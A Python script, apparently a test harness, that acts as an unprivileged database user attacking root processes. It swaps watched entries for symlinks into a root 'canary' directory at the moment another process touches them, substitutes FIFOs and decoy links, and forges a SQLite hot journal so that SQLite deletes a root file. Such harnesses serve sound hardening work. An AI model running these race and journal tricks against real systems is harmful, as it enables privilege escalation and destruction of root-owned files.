#!/usr/bin/env python3
"""A database's user that works against root: renames, links, exchanges and removes what is in its own directories, at random and
whenever another process opens or creates something there, so that a path that root looks up twice leads elsewhere the second time.

usage: attacker.py SEED CANARY DIRECTORY...

CANARY is a directory of root, to which the links lead. Directories that match a pattern are attacked as soon as they exist and belong to
this user. Runs until it is killed.
"""

import ctypes
import glob
import os
import random
import select
import struct
import sys
import time

LIBC = ctypes.CDLL(None, use_errno=True)
AT_FDCWD = -100
RENAME_EXCHANGE = 2
# inotify(7)
IN_OPEN, IN_CREATE, IN_MOVED_TO, IN_ATTRIB = 0x20, 0x100, 0x80, 0x4
EVENT = struct.Struct("iIII")
# Directories that are watched at most, and how often the patterns are looked up, in seconds.
MOST = 200
LOOK = 0.2
# SQLite's journal header, and the bytes that end the record of a super-journal (https://sqlite.org/fileformat2.html, "the rollback
# journal").
MAGIC = bytes.fromhex("d9d505f920a163d7")


def exchange(one, other):
    LIBC.renameat2(AT_FDCWD, os.fsencode(one), AT_FDCWD, os.fsencode(other), RENAME_EXCHANGE)


class Attacker:
    def __init__(self, seed, canary, patterns):
        self.random = random.Random(seed)
        self.canary, self.patterns = canary, patterns
        self.inotify = LIBC.inotify_init1(os.O_NONBLOCK)
        self.watched = {}  # descriptor -> directory
        self.moved = 0

    def targets(self):
        names = ["secret", "closed", "closed/inner", "open", "open/readable", "missing", "closed/missing", "open/missing", "."]
        return [os.path.join(self.canary, name) for name in names]

    def directories(self):
        found = []
        for pattern in self.patterns:
            for top in glob.glob(pattern):
                for directory, below, _ in os.walk(top):
                    below[:] = [name for name in below if name != ".zfs"]
                    found.append(directory)
                    if len(found) >= MOST:
                        return found
        return found

    def watch(self):
        for directory in self.directories():
            if directory not in self.watched.values():
                number = LIBC.inotify_add_watch(self.inotify, os.fsencode(directory), IN_OPEN | IN_CREATE | IN_MOVED_TO | IN_ATTRIB)
                if number >= 0:
                    self.watched[number] = directory

    def events(self, wait):
        """Pairs of a directory and a name in it on which another process acted, or nothing after WAIT seconds."""
        if not select.select([self.inotify], [], [], wait)[0]:
            return
        try:
            data = os.read(self.inotify, 65536)
        except OSError:
            return
        at = 0
        while at < len(data):
            number, _, _, length = EVENT.unpack_from(data, at)
            name = data[at + EVENT.size : at + EVENT.size + length].rstrip(b"\0")
            at += EVENT.size + length
            if number in self.watched:
                yield self.watched[number], os.fsdecode(name)

    def choose(self):
        """A random entry of a random directory."""
        directories = self.directories()
        if not directories:
            return None
        directory = self.random.choice(directories)
        names = os.listdir(directory)
        return (directory, self.random.choice(names)) if names else None

    def attack(self, directory, name):
        """Does one thing to an entry, or to the directory itself, and usually takes it back."""
        path = os.path.join(directory, name) if name else directory
        self.moved += 1
        aside = os.path.join(directory, f"aside{self.moved}")
        victim = self.random.choice([path, path, directory]) if directory not in self.tops() else path
        kind = self.random.randrange(8)
        if kind < 4:
            # A link in its place, for a moment.
            beside = os.path.join(os.path.dirname(victim), f"link{self.moved}")
            os.symlink(self.random.choice(self.targets()), beside)
            exchange(victim, beside)
            time.sleep(self.random.choice([0, 0.0005, 0.003, 0.05]))
            exchange(victim, beside)
            os.unlink(beside if os.path.islink(beside) else victim)
        elif kind == 4:
            os.rename(path, aside)
            os.mkfifo(path)
            time.sleep(self.random.choice([0, 0.003, 0.05]))
            os.unlink(path)
            os.rename(aside, path)
        elif kind == 5:
            # A young change time makes a copy wait.
            os.chmod(path, self.random.choice([0o600, 0o640, 0o700, 0o777]))
        elif kind == 6:
            new = os.path.join(directory, self.random.choice(["server.log", "socket", "tmp", "my.cnf", f"new{self.moved}"]))
            os.symlink(self.random.choice(self.targets()), new)
            time.sleep(self.random.choice([0.003, 0.05, 0.2]))
            os.unlink(new)
        else:
            self.hot_journal(os.path.join(directory, name))

    def tops(self):
        return [top for pattern in self.patterns for top in glob.glob(pattern)]

    def hot_journal(self, database):
        """A journal that tells SQLite to remove a file of root as soon as it opens the database."""
        if not database.endswith(".db") or os.path.islink(database):
            return
        with open(database, "rb") as file:
            head = file.read(100)
        page = struct.unpack(">H", head[16:18])[0]
        pages = os.path.getsize(database) // page
        name = os.fsencode(os.path.join(self.canary, "secret"))
        header = (MAGIC + struct.pack(">IIIII", 0, 7, pages, 512, page)).ljust(512, b"\0")
        record = struct.pack(">I", 0x40000000 // page + 1) + name + struct.pack(">II", len(name), sum(name) & 0xFFFFFFFF) + MAGIC
        with open(database + "-journal", "wb") as file:
            file.write(header + record)

    def run(self):
        looked = 0
        while True:
            if time.monotonic() - looked > LOOK:
                self.watch()
                looked = time.monotonic()
            some = list(self.events(0.02))
            some = [self.random.choice(some)] if some else [self.choose()]
            for entry in filter(None, some):
                try:
                    self.attack(*entry)
                except OSError:
                    pass  # the entry has another name by now


def main():
    if len(sys.argv) < 4:
        print(__doc__, file=sys.stderr)
        return 2
    attacker = Attacker(int(sys.argv[1]), sys.argv[2], sys.argv[3:])
    while True:
        try:
            attacker.run()
        except OSError:
            pass


if __name__ == "__main__":
    sys.exit(main())
